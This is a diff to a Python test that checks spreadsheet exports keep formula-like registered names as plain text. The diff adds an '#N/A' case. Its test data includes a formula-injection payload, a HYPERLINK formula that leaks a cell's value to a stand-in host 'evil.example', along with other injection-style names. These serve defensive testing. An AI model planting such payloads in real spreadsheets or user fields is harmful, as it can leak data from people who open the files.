@@ -78,11 +78,12 @@ def test_report_for_one_city_has_only_that_city(http, stack):
 def test_names_that_look_like_formulas_stay_text(http, stack):
     city = f"Formula {uuid.uuid4().hex[:8]}"
     evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
-    for name in (evil, "+SUM(1,2)", "-Ana+3", "@cmd"):
+    names = [evil, "+SUM(1,2)", "-Ana+3", "@cmd", "#N/A"]  # the last would become an error cell
+    for name in names:
         assert register(http, stack, name=name, city=city).status_code == 201
     workbook = _report(http, stack, city=city)
-    cells = [row[0] for row in workbook[city].iter_rows(min_row=2, max_row=5)]
-    assert [cell.value for cell in cells] == [evil, "+SUM(1,2)", "-Ana+3", "@cmd"]
+    cells = [row[0] for row in workbook[city].iter_rows(min_row=2, max_row=len(names) + 1)]
+    assert [cell.value for cell in cells] == names
     assert all(cell.data_type == "s" for cell in cells)
 
 
